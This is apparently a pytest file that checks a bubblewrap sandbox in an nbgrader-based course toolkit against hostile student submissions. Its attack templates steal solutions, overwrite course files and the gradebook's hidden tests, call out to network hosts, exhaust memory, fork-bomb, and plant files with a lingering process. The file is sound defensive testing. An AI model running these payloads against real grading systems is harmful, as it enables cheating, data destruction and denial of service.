"""Hostile submissions against both grading paths: each kernel runs in the bubblewrap sandbox
(coursekit/grading/sandbox.py), so none of them can read, change or destroy the course.

One course copy; a correct student graded after the attacks; one ``nbgrader autograde`` and one
``coursekit.grading.autograde_parallel`` (2 workers) over the whole class. Asserted for each path: exact scores
(an attack scores what its answers deserve: 0 when blank), a hash of every course file outside the grader's own
output unchanged, the gradebook's hidden tests unchanged, no connection reached a listener on the host, no file
appeared in the package or the environment, no sandbox process left behind.

The attacks are real: ``test_the_attack_finds_the_solutions_without_the_sandbox`` runs the disk search of the
first attack as plain Python from a student's folder and it finds the instructor's solutions.
"""

from __future__ import annotations

import hashlib
import os
import socket
import sqlite3
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import nbformat
import pytest

from coursekit import grading
from coursekit.grading import sandbox

sys.path.insert(0, str(Path(__file__).resolve().parent))
import course  # noqa: E402

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(bool(sandbox.check()), reason=f"no sandbox here: {sandbox.check()}")]

ASSIGNMENT = "ddpm"
ANSWERS = ("schedule", "q_sample", "loss", "p_sample", "train_sample")
TOKEN = uuid.uuid4().hex[:12]                   # marker files the attacks try to plant carry it
REPO = Path(__file__).resolve().parent.parent
PACKAGE = REPO / "coursekit"
SITE = Path(next(p for p in sys.path if p.endswith("site-packages")))

# Finds files by walking the disk the way a hostile student would: the folders above the kernel's working folder
# first (the course is there when nothing hides it), then the whole file system.
FINDER = r'''
import os as _os, time as _time
def _find(test, budget=8.0):
    start, seen, out = _time.time(), set(), []
    here = _os.path.abspath(".")
    roots = [here]
    while _os.path.dirname(roots[-1]) != roots[-1]:
        roots.append(_os.path.dirname(roots[-1]))
    for root in roots:
        for folder, dirs, files in _os.walk(root):
            if folder in seen or folder.startswith(("/proc", "/sys", "/dev", "/usr")):
                dirs[:] = []
                continue
            seen.add(folder)
            dirs[:] = [d for d in dirs if d not in ("site-packages", ".git", "node_modules")]
            out += [_os.path.join(folder, f) for f in files if test(_os.path.join(folder, f))]
            if out or _time.time() - start > budget:
                return out
    return out
'''

STEAL_SOLUTIONS = FINDER + r'''
import json as _json
if "_SOLUTION" not in globals():
    _SOLUTION = {}
    for _path in _find(lambda p: p.endswith("/solutions/ddpm/ddpm.ipynb")):
        for _c in _json.load(open(_path))["cells"]:
            _SOLUTION[_c["metadata"].get("nbgrader", {}).get("grade_id")] = "".join(_c["source"])
print("solutions found:", sorted(k for k in _SOLUTION if k))
exec(_SOLUTION.get("{grade_id}", "raise NotImplementedError('nothing found')"), globals())
'''

STEAL_OTHER = FINDER + r'''
import json as _json
if "_OTHER" not in globals():
    _OTHER = {}
    for _path in _find(lambda p: p.endswith("/ddpm/ddpm.ipynb") and "zz_correct" in p):
        for _c in _json.load(open(_path))["cells"]:
            _OTHER[_c["metadata"].get("nbgrader", {}).get("grade_id")] = "".join(_c["source"])
exec(_OTHER.get("{grade_id}", "raise NotImplementedError('nothing found')"), globals())
'''

OVERWRITE = FINDER + r'''
import shutil as _shutil
_mine = _os.path.abspath(".")
for _path in _find(lambda p: ("/submitted/" in p or "/solutions/" in p or "/assignments/" in p
                              or p.endswith(("nbgrader_config.py", "gradebook.db")) or "/autograded/" in p)
                   and not p.startswith(_mine), budget=8.0):
    try:
        open(_path, "w").write("overwritten by a hostile submission")
        print("overwrote", _path)
    except OSError as _err:
        print("could not overwrite", _path, type(_err).__name__)
for _path in _find(lambda p: p.endswith("/solutions/ddpm/ddpm.ipynb"), budget=2.0):
    try:
        _shutil.rmtree(_os.path.dirname(_os.path.dirname(_path)))
    except OSError:
        pass
'''

GRADEBOOK = FINDER + r'''
import sqlite3 as _sqlite3
for _path in _find(lambda p: p.endswith("gradebook.db")):
    try:
        with _sqlite3.connect(_path) as _db:
            _db.execute("UPDATE source_cell SET source = 'print(\"hidden tests passed\")'")
        print("rewrote the hidden tests in", _path)
    except Exception as _err:
        print("gradebook untouched", type(_err).__name__)
'''

NETWORK = r'''
import socket as _socket
for _host in ("127.0.0.1", "pypi.org", "1.1.1.1"):
    try:
        _s = _socket.create_connection((_host, {port}), timeout=2)
        _s.sendall(b"hostile submission calling home")
        _s.close()
        print("connected to", _host)
    except OSError as _err:
        print("no connection to", _host, type(_err).__name__)
'''

MEMORY = r'''
import numpy as _np
try:
    _big = _np.empty(16 << 30, dtype=_np.uint8)       # 16 GiB: far more than the sandbox's address space
    print("ALLOCATED 16 GiB")
    del _big
except MemoryError:
    print("memory limit held")
_chunks = []
try:
    while True:                                      # and then grab memory until something stops it
        _chunks.append(_np.empty(1 << 30, dtype=_np.uint8))
        _chunks[-1][::4096] = 1                      # touch every page
except MemoryError:
    print("stopped after", len(_chunks), "GiB")
del _chunks
'''

FORK_BOMB = r'''
import os as _os
while True:
    try:
        _os.fork()
    except OSError:
        pass
'''

WRITE_OUTSIDE = r'''
import os as _os, subprocess as _sp, sys as _sys
_targets = [_os.path.join(p, "_pwned_{token}.py") for p in
            ("{package}", "{package}/grading", "{site}", "{home}", "../..", "../../..")]
for _t in _targets:
    try:
        open(_t, "w").write("raise SystemExit('pwned')")
        print("WROTE", _t)
    except OSError as _err:
        print("could not write", _t, type(_err).__name__)
# a process left behind that keeps trying after this kernel is gone
_sp.Popen([_sys.executable, "-c", "import time\nfor _ in range(600):\n    time.sleep(0.5)\n"
           "    try:\n        open({later}, 'w').write('late')\n    except OSError:\n        pass"],
          start_new_session=True)
'''


def _code(template: str, grade_id: str, **extra) -> str:
    """``template`` with its {placeholders} filled in (only these names; the code's own braces stay)."""
    values = dict(grade_id=grade_id, token=TOKEN, package=str(PACKAGE), site=str(SITE), home=str(Path.home()),
                  later=repr(str(PACKAGE / f"_pwned_late_{TOKEN}.py")), **extra)
    for key, value in values.items():
        template = template.replace("{" + key + "}", str(value))
    return template


def _blank_with(release, code_per_cell: dict[str, str]):
    """The blank release with ``code`` placed in front of the answer cells named (the stubs stay: blank answers)."""
    nb = nbformat.from_dict(release)
    for grade_id, code in code_per_cell.items():
        cell = course.cell(nb, grade_id)
        cell.source = code + "\n" + cell.source
    return nb


class Listener:
    """A TCP server on the host's 127.0.0.1 counting the connections it receives."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.5)
        self.port, self.connections, self._stop = self.sock.getsockname()[1], 0, False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                continue

    def close(self) -> None:
        self._stop = True
        self.thread.join(timeout=2)
        self.sock.close()


GRADER_OUTPUT = ("autograded", "feedback", "gradebook.db", ".parallel_executed")


def course_hashes(root: Path) -> dict[str, str]:
    """SHA-256 of every file of the course outside the grader's own output, and of the gradebook's hidden tests."""
    out = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root)
        if path.is_file() and rel.parts[0] not in GRADER_OUTPUT:
            out[str(rel)] = hashlib.sha256(path.read_bytes()).hexdigest()
    with sqlite3.connect(root / "gradebook.db") as db:
        for table in ("source_cell", "grade_cells", "solution_cells"):
            rows = db.execute(f"SELECT * FROM {table} ORDER BY id").fetchall()
            out[f"gradebook.db:{table}"] = hashlib.sha256(repr(rows).encode()).hexdigest()
    return out


def planted() -> list[Path]:
    """Marker files an attack managed to write into the package, the environment or the grader's home."""
    return [p for base in (PACKAGE, PACKAGE / "grading", SITE, Path.home()) for p in base.glob(f"_pwned*{TOKEN}*")]


def sandbox_processes(root: Path) -> list[str]:
    """Sandbox processes of this course still running (bwrap's command line names the submission it copies)."""
    out = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout.splitlines()
    return [line for line in out if "bwrap" in line and str(root) in line]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """One course, the class submitted, graded by `nbgrader autograde` then by the parallel path."""
    old_scale = os.environ.get("COURSEKIT_TIMEOUT_SCALE")
    os.environ["COURSEKIT_TIMEOUT_SCALE"] = "0.5"        # the fork bomb's cell times out sooner (15 s)
    listener = Listener()
    root = course.make_course(tmp_path_factory.mktemp("course"), ASSIGNMENT)
    release, solution = course.release(root, ASSIGNMENT), course.solution(root, ASSIGNMENT)
    correct = course.answered(release, solution)
    full = float(sum(c.metadata["nbgrader"].get("points", 0) for c in solution.cells       # autograded tests
                     if c.metadata.get("nbgrader", {}).get("grade") and not c.metadata["nbgrader"].get("solution")))
    cases = {                       # graded in this order; the correct student last, after every attack
        "read_solutions": (_blank_with(release, {g: _code(STEAL_SOLUTIONS, g) for g in ANSWERS}), 0.0),
        "read_other": (_blank_with(release, {g: _code(STEAL_OTHER, g) for g in ANSWERS}), 0.0),
        "overwrite": (_blank_with(release, {"schedule": _code(OVERWRITE, "schedule")}), 0.0),
        "gradebook": (_blank_with(release, {"schedule": _code(GRADEBOOK, "schedule")}), 0.0),
        "network": (_blank_with(release, {"schedule": _code(NETWORK, "schedule", port=listener.port)}), 0.0),
        "memory": (_blank_with(release, {"schedule": MEMORY}), 0.0),
        "fork_bomb": (_blank_with(release, {"schedule": FORK_BOMB}), 0.0),
        "write_outside": (_blank_with(release, {"schedule": _code(WRITE_OUTSIDE, "schedule")}), 0.0),
        "zz_correct": (correct, full),
    }
    for student, (nb, _) in cases.items():
        course.submit(root, student, ASSIGNMENT, nb)
    expected = {s: total for s, (_, total) in cases.items()}
    before = course_hashes(root)
    try:
        proc = course.autograde(root, ASSIGNMENT)
        sequential = course.scores(root, ASSIGNMENT)
        after_sequential = course_hashes(root)
        leftovers_sequential = sandbox_processes(root)
        seen = {student: _outputs(root, student) for student in expected}
        connections_sequential = listener.connections
        parallel = grading.autograde_parallel(root, ASSIGNMENT, workers=2)
        after_parallel = course_hashes(root)
    finally:
        listener.close()
        for path in planted():            # never leave an attack's file in the shared package
            path.unlink()
        if old_scale is None:
            os.environ.pop("COURSEKIT_TIMEOUT_SCALE", None)
        else:
            os.environ["COURSEKIT_TIMEOUT_SCALE"] = old_scale
    return dict(root=root, expected=expected, proc=proc, sequential=sequential, parallel=parallel,
                before=before, after_sequential=after_sequential, after_parallel=after_parallel,
                leftovers=leftovers_sequential, connections=connections_sequential, seen=seen,
                total_connections=listener.connections)


def _outputs(root: Path, student: str) -> str | None:
    """Every text output of the student's executed notebook, or None when nbgrader kept none (dead kernel)."""
    path = root / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    if not path.exists():
        return None
    nb = nbformat.read(path, as_version=4)
    return "\n".join(str(o.get("text", "")) + str(o.get("evalue", "")) for c in nb.cells for o in c.get("outputs", []))


def _totals(scores):
    return {student: row["total"] for student, row in scores.items()}


def test_sequential_scores_are_exact(attacked):
    proc = attacked["proc"]
    assert _totals(attacked["sequential"]) == attacked["expected"], proc.stdout[-3000:] + proc.stderr[-3000:]


def test_parallel_scores_are_exact(attacked):
    assert _totals(attacked["parallel"]) == attacked["expected"]
    assert attacked["parallel"] == attacked["sequential"]


def test_no_course_file_changed(attacked):
    before = attacked["before"]
    assert any(k.startswith("solutions/") for k in before) and any(k.startswith("submitted/") for k in before)
    assert attacked["after_sequential"] == before
    assert attacked["after_parallel"] == before


def test_nothing_planted_and_nothing_left_running(attacked):
    assert not planted()
    assert attacked["leftovers"] == []
    assert sandbox_processes(attacked["root"]) == []


def test_no_connection_left_the_sandbox(attacked):
    assert attacked["total_connections"] == 0


def test_what_the_attacks_saw(attacked):
    """The executed notebooks (of the sequential run) say why: nothing found, writes refused, limits held."""
    seen = attacked["seen"]
    assert "solutions found: []" in seen["read_solutions"]
    assert "overwrote" not in seen["overwrite"] and "could not overwrite" not in seen["overwrite"]
    assert "rewrote" not in seen["gradebook"]
    assert "connected to" not in seen["network"] and "no connection to 127.0.0.1" in seen["network"]
    # a kernel that ran out of memory may die (then nbgrader keeps no notebook): otherwise it says so
    assert seen["memory"] is None or ("memory limit held" in seen["memory"] and "ALLOCATED" not in seen["memory"])
    assert "WROTE" not in seen["write_outside"] and "could not write" in seen["write_outside"]


def test_the_attack_finds_the_solutions_without_the_sandbox(attacked):
    """Without the sandbox the first attack's search, run from a student's folder, finds the instructor's
    solutions (so the sandbox is what stops it)."""
    root = attacked["root"]
    code = FINDER + 'print(_find(lambda p: p.endswith("/solutions/ddpm/ddpm.ipynb")))'
    proc = subprocess.run([sys.executable, "-c", code], cwd=root / "submitted" / "read_solutions" / ASSIGNMENT,
                          capture_output=True, text=True, timeout=60)
    assert str(root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb") in proc.stdout, proc.stderr
